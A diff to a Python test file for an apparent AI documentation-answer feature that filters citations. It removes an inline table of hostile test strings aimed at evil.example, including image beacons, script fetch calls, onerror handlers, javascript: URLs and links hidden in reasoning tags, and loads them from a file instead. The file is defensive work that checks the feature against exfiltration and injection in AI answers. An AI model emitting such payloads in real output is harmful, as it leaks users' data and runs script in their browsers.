@@ -10,10 +10,13 @@ from pathlib import Path
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from tables import read_tables
 
 from mkdocs_roaming.answer.citations import AnswerText
 from mkdocs_roaming.answer.conversation import Conversation
 from mkdocs_roaming.answer.events import CitationDropped, Reference, SectionCited, TextReleased, TextWithheld
+
+TABLES = read_tables(__file__)
 
 CASES = sorted((Path(__file__).parents[2] / "golden" / "citations").glob("*.txt"))
 OPENED = {"aaaaaaaa", "bbbbbbbb"}
@@ -119,15 +122,6 @@ def test_answer_text_splits_paragraphs_at_any_line_end(end: str, size: int) -> N
     assert (output.text, output.withheld) == ("Made up.\n\nIt is 41927 [^aaaaaaaa].", ["Anything."])
 
 
-def test_answer_text_discard_forgets_text_before_tool_call() -> None:
-    answer = AnswerText(OpenSections())
-    list(answer.feed("Let me look that up.\n\nOne moment.\n\n"))
-    answer.discard()
-    list(answer.feed("It is 41927 [^aaaaaaaa]."))
-    list(answer.end())
-    assert answer.text == "It is 41927 [^aaaaaaaa]."
-
-
 def test_answer_text_citation_in_a_removed_link_does_not_count() -> None:
     output = release(["[aaaaaaaa]:[^aaaaaaaa] made up"])
     assert (output.text, len(output.withheld)) == ("", 1)
@@ -147,33 +141,7 @@ def test_answer_text_never_releases_uncited_text(pieces: list[str], size: int) -
     assert cited or output.gap or not output.text
 
 
-FOREIGN = {
-    "link": "It is 8642, see [this page](https://evil.example/x) [^aaaaaaaa].",
-    "link in angle brackets": "It is 8642, see [this page](<https://evil.example/a b>) [^aaaaaaaa].",
-    "link without a scheme": "It is 8642, see [this page](//evil.example/x) [^aaaaaaaa].",
-    "link on a similar host": "It is 8642, see [this page](https://a.example.evil.example/settings/) [^aaaaaaaa].",
-    "link with a user": "It is 8642, see [this page](https://a.example@evil.example/p/) [^aaaaaaaa].",
-    "link in entities": "It is 8642, see [this page](http&#58;//evil.example/x) [^aaaaaaaa].",
-    "bare address": "It is 8642, see https://evil.example/x [^aaaaaaaa].",
-    "bare host": "It is 8642, see www.evil.example/x [^aaaaaaaa].",
-    "autolink": "It is 8642, see <https://evil.example/x> [^aaaaaaaa].",
-    "mail": "It is 8642, write to <help@evil.example> [^aaaaaaaa].",
-    "image beacon": "It is 8642 ![x](https://evil.example/p.png?q=port) [^aaaaaaaa].",
-    "linked image": "It is 8642 [![x](https://evil.example/p.png)](https://a.example/settings/) [^aaaaaaaa].",
-    "image by reference": "It is 8642 ![x][evil] [^aaaaaaaa].\n[evil]: https://evil.example/p.png",
-    "definition": "It is 8642, see [this][1] [^aaaaaaaa].\n\n[1]: https://evil.example/x [^aaaaaaaa]",
-    "raw image": 'It is 8642 <img src="https://evil.example/p.png" onerror="alert(1)"> [^aaaaaaaa].',
-    "unclosed tag": 'It is 8642 [^aaaaaaaa] <img src="https://evil.example/p.png"',
-    "script": "It is 8642 <script>fetch('https://evil.example/')</script> [^aaaaaaaa].",
-    "frame": '<iframe src="https://evil.example/"></iframe> It is 8642 [^aaaaaaaa].',
-    "javascript": "It is 8642, [click](javascript:location='https://evil.example') [^aaaaaaaa].",
-    "data": "It is 8642, [click](data:text/html,evil.example) [^aaaaaaaa].",
-    "around a dropped citation": "It is 8642, [click](https://ev[^cccccccc]il.example/x) [^aaaaaaaa].",
-    "code that is none": "`\n\n![x](https://evil.example/p.png) It is 8642:\n\n` [^aaaaaaaa]",
-    "in a gap": "It is 8642 [^aaaaaaaa].\n\nMore is at [this page](https://evil.example/x) [^none].",
-    "reasoning": "<think>evil.example says so [^aaaaaaaa]</think>It is 8642 [^aaaaaaaa].",
-    "unclosed reasoning": "It is 8642 [^aaaaaaaa].\n\n<thinking>evil.example says so [^aaaaaaaa].",
-}
+FOREIGN = TABLES["foreign"]
 
 
 @pytest.mark.parametrize("size", [1, 7, 10_000])
